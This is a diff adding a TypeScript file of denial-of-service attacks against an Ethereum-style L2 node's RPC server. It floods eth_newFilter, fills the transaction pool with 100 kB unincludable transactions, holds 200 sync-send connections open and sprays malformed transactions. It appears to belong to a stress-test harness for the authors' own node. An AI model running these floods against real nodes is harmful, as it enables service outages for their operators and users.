@@ -1,0 +1,153 @@
+import { hexToBytes, keccak256, privateKeyToAddress } from "@rnode/primitives";
+import { encodeTransaction, type FeeMarketTransaction, signTransaction } from "@rnode/protocol";
+import type { Attacker } from "../attacker/attacker.ts";
+import { addressOf, batch, call, post, quantity, times } from "../attacker/requests.ts";
+import type { Attack } from "./attack.ts";
+
+/** What makes the server remember something. */
+
+const toHex = (bytes: Uint8Array): string => `0x${Buffer.from(bytes).toString("hex")}`;
+
+const BLOOM_FILTER = { fromBlock: "latest", address: times(50, (index) => addressOf(index)), topics: [] };
+
+export const filterFlood: Attack = {
+  name: "filter-flood",
+  what: "24 batches of 1,000 eth_newFilter, six cheap transactions, then the filters are polled",
+  bounds: { connections: 8 },
+  async run({ http, l2ChainId, privateKey }, attacker) {
+    const ids: string[] = [];
+    for (let round = 0; round < 24 && !attacker.signal.aborted; round++) {
+      const kinds = [
+        call("eth_newFilter", [round % 2 === 0 ? {} : BLOOM_FILTER]),
+        call("eth_newPendingTransactionFilter"),
+        call("eth_newBlockFilter"),
+      ];
+      const text = await ask(attacker, http, batch(times(1000, (id) => kinds[id % kinds.length]!)));
+      for (const [, id] of text?.matchAll(/"result":"(0x[0-9a-f]+)"/g) ?? []) ids.push(id!);
+    }
+    attacker.count("filters", ids.length);
+    const key = hexToBytes(privateKey);
+    const first = await nonceOf(attacker, http, privateKeyToAddress(key));
+    for (let index = 0; index < 6; index++) {
+      await ask(attacker, http, sendRaw(transfer(l2ChainId, key, first + BigInt(index), { gasLimit: 21_000n })));
+    }
+    await attacker.onConnections(http, 4, (socket) =>
+      attacker.exchange(
+        socket,
+        post(
+          batch(times(1000, (id) => call("eth_getFilterChanges", [ids[attacker.random(Math.max(1, ids.length))] ?? "0x1"], id))),
+        ),
+      ),
+    );
+  },
+};
+
+/** Large data, which must be kept while it waits. */
+const DATA = new Uint8Array(100_000);
+const SENDERS = 40;
+const FUNDS = 10n ** 19n;
+
+export const poolJournal: Attack = {
+  name: "pool-journal",
+  what: "transactions of 100 kB that can never be included, from 40 accounts, replaced again and again; then a restart",
+  bounds: { connections: SENDERS + 1 },
+  afterwards: "restart-engine",
+  async run({ http, l2ChainId, privateKey }, attacker) {
+    const funder = hexToBytes(privateKey);
+    const first = await nonceOf(attacker, http, privateKeyToAddress(funder));
+    const keys = times(SENDERS, (index) => keccak256(new TextEncoder().encode(`abuse ${attacker.random(2 ** 31)} ${index}`)));
+    for (const [index, key] of keys.entries()) {
+      const to = privateKeyToAddress(key);
+      await ask(
+        attacker,
+        http,
+        sendRaw(transfer(l2ChainId, funder, first + BigInt(index), { to, value: FUNDS, gasLimit: 21_000n })),
+      );
+    }
+    await attacker.pause(2500);
+    await attacker.onConnections(http, SENDERS, (socket, lane) => {
+      // nonce 0 is missing, so that none of them can ever be included
+      const nonce = 1n + BigInt(attacker.random(64));
+      const fee = 10_000_000n + BigInt(attacker.random(2_000_000_000));
+      const large = transfer(l2ChainId, keys[lane]!, nonce, {
+        data: DATA,
+        gasLimit: 1_200_000n,
+        maxFeePerGas: fee,
+        maxPriorityFeePerGas: fee,
+      });
+      return attacker.exchange(socket, post(sendRaw(large)));
+    });
+  },
+};
+
+export const syncWaiters: Attack = {
+  name: "sync-waiters",
+  what: "200 eth_sendRawTransactionSync that wait for receipts that never come",
+  bounds: { connections: 200 },
+  async run({ http, l2ChainId }, attacker) {
+    await attacker.onConnections(http, 200, (socket, lane) => {
+      const key = keccak256(new TextEncoder().encode(`waiter ${lane}`));
+      return attacker.exchange(
+        socket,
+        post(call("eth_sendRawTransactionSync", [toHex(encodeTransaction(transfer(l2ChainId, key, 5n, {}))), 60_000])),
+      );
+    });
+  },
+};
+
+export const invalidTransactions: Attack = {
+  name: "invalid-transactions",
+  what: "batches of 500 transactions without funds, with bad signatures, of other chains, or of no form, on 4 connections",
+  bounds: { connections: 4 },
+  async run({ http, l2ChainId }, attacker) {
+    const key = keccak256(new TextEncoder().encode("nobody"));
+    const good = encodeTransaction(transfer(l2ChainId, key, 0n, {}));
+    const variants = [
+      good,
+      encodeTransaction(transfer(1, key, 0n, {})),
+      good.subarray(0, 50),
+      good.map((byte, index) => (index > good.length - 33 ? 0xff : byte)),
+      new Uint8Array(131_073).fill(0xf8),
+      Uint8Array.from([0x7e, ...good]),
+      Uint8Array.from([0x03, ...good.subarray(1)]),
+    ].map(toHex);
+    await attacker.onConnections(http, 4, (socket) =>
+      attacker.exchange(socket, post(batch(times(50, () => sendRaw(variants[attacker.random(variants.length)]!))))),
+    );
+  },
+};
+
+type Fields = Partial<Omit<FeeMarketTransaction, "type" | "chainId" | "nonce">>;
+
+function transfer(chainId: number, key: Uint8Array, nonce: bigint, fields: Fields): FeeMarketTransaction {
+  const unsigned: FeeMarketTransaction = {
+    type: 0x02,
+    chainId: BigInt(chainId),
+    nonce,
+    maxPriorityFeePerGas: 1_000_000n,
+    maxFeePerGas: 10_000_000_000n,
+    accessList: [],
+    to: new Uint8Array(20).fill(7),
+    value: 1n,
+    data: new Uint8Array(0),
+    gasLimit: 21_000n,
+    ...fields,
+  };
+  return signTransaction(unsigned, key);
+}
+
+const sendRaw = (transaction: FeeMarketTransaction | string): string =>
+  call("eth_sendRawTransaction", [typeof transaction === "string" ? transaction : toHex(encodeTransaction(transaction))]);
+
+async function ask(attacker: Attacker, port: number, body: string): Promise<string | undefined> {
+  const socket = await attacker.connect(port);
+  if (!socket) return undefined;
+  const answer = await attacker.exchange(socket, post(body));
+  socket.destroy();
+  return answer?.text;
+}
+
+async function nonceOf(attacker: Attacker, port: number, address: Uint8Array): Promise<bigint> {
+  const text = await ask(attacker, port, call("eth_getTransactionCount", [toHex(address), "pending"]));
+  return BigInt(/"result":"(0x[0-9a-f]+)"/.exec(text ?? "")?.[1] ?? quantity(0));
+}
